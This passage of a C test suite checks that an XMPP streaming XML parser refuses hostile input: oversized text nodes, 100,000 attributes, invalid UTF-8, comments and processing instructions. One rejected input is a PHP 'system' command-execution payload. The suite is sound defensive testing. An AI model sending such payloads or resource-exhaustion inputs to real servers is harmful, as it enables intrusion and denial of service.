    assert_int_equal(feed_one(b.data, b.len, b.len, NULL), XML_COND_POLICY_VIOLATION);
    assert_int_equal(feed_one(b.data, b.len, 3, NULL), XML_COND_POLICY_VIOLATION);

    /* A 20 MB text node, in one feed and in 64 KB feeds; also with the
     * largest configurable limit: our limit refuses it, not libxml2. */
    size_t big = (size_t)20 << 20;
    b.len = 0;
    psyc_buf_puts(&b, HDR "<message><body>");
    psyc_buf_reserve(&b, big + 64);
    memset(b.data + b.len, 'a', big);
    b.len += big;
    psyc_buf_puts(&b, "</body></message>");
    double t0 = cpu_now();
    assert_int_equal(feed_one(b.data, b.len, b.len, NULL), XML_COND_POLICY_VIOLATION);
    assert_int_equal(feed_one(b.data, b.len, 65536, NULL), XML_COND_POLICY_VIOLATION);
    xml_stream_opts maxed = {.max_stanza = SIZE_MAX};
    assert_int_equal(feed_one(b.data, b.len, b.len, &maxed), XML_COND_POLICY_VIOLATION);
    assert_true(cpu_now() - t0 < 10.0);

    /* 100 000 attributes (and as many namespace declarations): refused
     * before libxml2's pairwise duplicate check sees them. */
    for (int ns = 0; ns < 2; ns++) {
        b.len = 0;
        psyc_buf_puts(&b, HDR "<message");
        char a[48];
        for (int i = 0; i < 100000; i++) {
            snprintf(a, sizeof a, ns ? " xmlns:p%d='u'" : " a%d=''", i);
            psyc_buf_puts(&b, a);
        }
        psyc_buf_puts(&b, "/>");
        xml_stream_opts huge = {.max_stanza = XML_LIMIT_MAX_STANZA};
        t0 = cpu_now();
        assert_int_equal(feed_one(b.data, b.len, b.len, &huge), XML_COND_POLICY_VIOLATION);
        assert_int_equal(feed_one(b.data, b.len, 4096, &huge), XML_COND_POLICY_VIOLATION);
        assert_true(cpu_now() - t0 < 1.0);
    }
    psyc_buf_free(&b);

    /* Invalid UTF-8, bad prefixes, stanza before header, comment, PI. */
    expect_cond(S(HDR "<message><body>\xc0\xaf</body></message>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message><x:y/></message>"), XML_COND_INVALID_NAMESPACE);
    expect_cond(S("<message xmlns='jabber:server'/>" HDR), XML_COND_INVALID_NAMESPACE);
    expect_cond(S(HDR "<!---->"), XML_COND_RESTRICTED_XML);
    expect_cond(S(HDR "<?php system('id'); ?>"), XML_COND_RESTRICTED_XML);
}

static void test_evil_catalogue(void **state)
{
    (void)state;
    evil_catalogue();
}

static void test_evil_catalogue_silent(void **state)
{
    (void)state;
    /* Nothing reaches stderr: libxml2 reports to our handler only. */
    fflush(stderr);
    int saved = dup(2);
    FILE *tmp = tmpfile();
    assert_non_null(tmp);
    dup2(fileno(tmp), 2);
    evil_catalogue();
    fflush(stderr);
    dup2(saved, 2);
    close(saved);
    fseek(tmp, 0, SEEK_END);
    long size = ftell(tmp);
    fclose(tmp);
    assert_int_equal(size, 0);
}

#if defined(__SANITIZE_ADDRESS__)
#define UNDER_ASAN 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define UNDER_ASAN 1
#endif
#endif

#if !defined(UNDER_ASAN)
/* Resident set size now (not the peak, which earlier tests raised). */
static long resident_kb(void)
{
    long pages = 0, rss = 0;
    FILE *f = fopen("/proc/self/statm", "r");
    if (!f)
        return -1;
    if (fscanf(f, "%ld %ld", &pages, &rss) != 2)
        rss = -1;
    fclose(f);
    return rss < 0 ? -1 : rss * (sysconf(_SC_PAGESIZE) / 1024);
}
#endif

static void test_memory_flat(void **state)
{
    (void)state;
#if defined(UNDER_ASAN)
    skip(); /* ASan's quarantine keeps freed memory */
#else
    /* 200 x 340 KB of stanzas on one endless stream. */
    psyc_buf gen;
    psyc_buf_init(&gen);
    assert_int_equal(xml_gen_stream(&gen, 1000, 7, XML_NS_SERVER), 0);
    const char *body = strstr(gen.data, "'en'>") + 5;
    size_t hdr_len = (size_t)(body - gen.data), blen = gen.len - hdr_len;
    rec r;
    rec_init(&r, NULL);
    assert_int_equal(xml_stream_feed(r.s, gen.data, hdr_len, NULL), XML_STREAM_OK);
    long before = 0, after;
    for (int i = 0; i < 200; i++) {
        assert_int_equal(feed(&r, body, blen, 16384), XML_STREAM_OK);
        psyc_buf_reset(&r.log); /* the recorder's own log would grow */
        if (i == 20)
            before = resident_kb();
    }
    after = resident_kb();
    assert_int_equal(r.stanzas, 200000);
    if (before > 0 && after - before > 8 * 1024)
        fail_msg("resident memory grew from %ld KB to %ld KB", before, after);
    rec_free(&r);
    psyc_buf_free(&gen);
#endif
}

/* ---- transcripts ---------------------------------------------------------------- */

#define TRANSCRIPTS VECTORS_DIR "/xmpp/transcripts"

typedef struct tstream {
    char key[32]; /* label + direction */
    rec r;
} tstream;

static void roundtrip(const xml_node *st, const char *content_ns)
{
    /* parse(serialize(stanza)) == stanza inside a synthetic stream. */
    xml_nsmap map;
    xml_nsmap_init(&map, content_ns);
    psyc_buf out;
    psyc_buf_init(&out);
    xml_stream_attrs a = {.to = "x"};
    assert_int_equal(xml_write_stream_open(&out, &map, &a), 0);
    assert_int_equal(xml_serialize(&out, st, &map), 0);
    rec r;
    rec_init(&r, NULL);
    r.keep = 1;
    r.restart_tls = 0;
    assert_int_equal(feed(&r, out.data, out.len, out.len), XML_STREAM_OK);
    assert_int_equal(r.nkept, 1);
    assert_true(xml_node_equal(st, r.kept[0], XML_EQ_CONTENT_NS));
    rec_free(&r);
    psyc_buf_free(&out);
}

static void test_transcripts(void **state)
{
    (void)state;
    DIR *d = opendir(TRANSCRIPTS);
    assert_non_null(d);
    struct dirent *e;
    size_t files = 0, total = 0, restarts = 0;
    while ((e = readdir(d)) != NULL) {
        if (!strstr(e->d_name, ".txt"))
            continue;
        char path[512];
        snprintf(path, sizeof path, "%s/%s", TRANSCRIPTS, e->d_name);
        size_t len;
        char *text = tf_read_file(path, &len);
        assert_non_null(text);
        files++;
        tstream ts[16];
        size_t nts = 0;
        for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
            /* "LABEL<< bytes" (peer to gateway), "LABEL>> bytes" (gateway
             * to peer), "LABEL-- note": each direction is a stream. */
            char *dir = strpbrk(line, "<>-");
            if (!dir || dir[1] != dir[0] || dir[2] != ' ' || dir[0] == '-')
                continue;
            char key[32];
            snprintf(key, sizeof key, "%.*s%c", (int)(dir - line), line, dir[0]);
            tstream *t = NULL;
            for (size_t i = 0; i < nts; i++)
                if (strcmp(ts[i].key, key) == 0)
                    t = &ts[i];
            if (!t) {
                assert_true(nts < 16);
                t = &ts[nts++];
                snprintf(t->key, sizeof t->key, "%s", key);
                rec_init(&t->r, NULL);
                t->r.keep = 1;
            }
            const char *bytes = dir + 3;
            xml_status st = feed(&t->r, bytes, strlen(bytes), 4096);
            const char *why = "";
            if (st == XML_STREAM_ERROR)
                fail_msg("%s %s: %s: %s", e->d_name, key, xml_cond_name(xml_stream_error(t->r.s, &why)), why);
            for (size_t i = 0; i < t->r.nkept; i++) {
                roundtrip(t->r.kept[i], t->r.map_ns[0] ? t->r.map_ns : NULL);
                xml_node_free(t->r.kept[i]);
            }
            t->r.nkept = 0;
        }
        for (size_t i = 0; i < nts; i++) {
            assert_true(ts[i].r.opens >= 1);
            total += ts[i].r.stanzas;
            restarts += ts[i].r.opens - 1;
            rec_free(&ts[i].r);
        }
        free(text);
    }
    closedir(d);
    assert_int_equal(files, 9);
    assert_true(total >= 80);
    assert_true(restarts >= 10); /* every TLS restart in the transcripts */
}

/* ---- pre-scanner ------------------------------------------------------------------ */

static size_t scan_all(const char *p, size_t n, size_t step, uint32_t max, int *state)
{
    xml_scan sc;
    xml_scan_init(&sc);
    size_t off = 0;
    while (off < n) {
        size_t k = n - off < step ? n - off : step;
        size_t got = xml_scan_run(&sc, p + off, k, max);
        if (got < k) {
            *state = sc.state;
            return off + got;
        }
        off += k;
    }
    *state = sc.state;
    return n;
}

static void test_scanner_split_invariant(void **state)
{
    (void)state;
    static const char *const pieces[] = {
        "<a", "<b x='1'", " y=\"2\"", "/>", "</a>", "text", "=", "'", "\"", ">", "<![CDATA[", "]]>",
        "]", "<?xml v='1'?>", "<!--", "-->", " ", "<c a='x\"y' b=\"p'q\" c='=' d=\">\"",
        "0123456789abcdef0123456789abcdef", "<e f='1' g='2' h='3' i='4'>"};
    uint32_t seed = 12345;
    for (int t = 0; t < 20000; t++) {
        char buf[800];
        size_t n = 0;
        seed = seed * 1103515245u + 12345u;
        int k = (int)(seed >> 16) % 50;
        for (int j = 0; j < k; j++) {
            seed = seed * 1103515245u + 12345u;
            const char *p = pieces[(seed >> 16) % (sizeof pieces / sizeof pieces[0])];
            size_t l = strlen(p);
            if (n + l >= sizeof buf)
                break;
            memcpy(buf + n, p, l);
            n += l;
        }
        uint32_t max = 1 + (seed >> 8) % 6;
        int s1, s2, s3;
        size_t a = scan_all(buf, n, n ? n : 1, max, &s1); /* SIMD where it can */
        size_t b = scan_all(buf, n, 1, max, &s2);         /* byte loop only */
        size_t c = scan_all(buf, n, 33, max, &s3);
        if (a != b || b != c || s1 != s2 || s2 != s3)
            fail_msg("scanner differs (%zu %zu %zu) on: %.*s", a, b, c, (int)n, buf);
    }
}

static void test_names_table_sorted(void **state)
{
    (void)state;
    assert_true(xml_names_sorted());
    const char *m = xml_name_static("message", 7);
    assert_non_null(m);
    assert_true(xml_name_is_static(m));
    assert_null(xml_name_static("messag", 6));
    assert_null(xml_name_static("messages", 8));
    assert_false(xml_name_is_static("message"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_basic_events),
        cmocka_unit_test(test_header_attribute_order),
        cmocka_unit_test(test_keepalives),
        cmocka_unit_test(test_close),
        cmocka_unit_test(test_restart_used_bytes),
        cmocka_unit_test(test_split_anywhere),
        cmocka_unit_test(test_text_and_attribute_values),
        cmocka_unit_test(test_restricted_xml),
        cmocka_unit_test(test_not_well_formed),
        cmocka_unit_test(test_invalid_utf8),
        cmocka_unit_test(test_namespaces),
        cmocka_unit_test(test_bad_format_text),
        cmocka_unit_test(test_policy_limits),
        cmocka_unit_test(test_fail_from_handler),
        cmocka_unit_test(test_reentrant_feed_refused),
        cmocka_unit_test(test_evil_catalogue),
        cmocka_unit_test(test_evil_catalogue_silent),
        cmocka_unit_test(test_memory_flat),
        cmocka_unit_test(test_transcripts),
        cmocka_unit_test(test_scanner_split_invariant),
        cmocka_unit_test(test_names_table_sorted),
    };
    return cmocka_run_group_tests_name("xml_stream", tests, NULL, NULL);
}
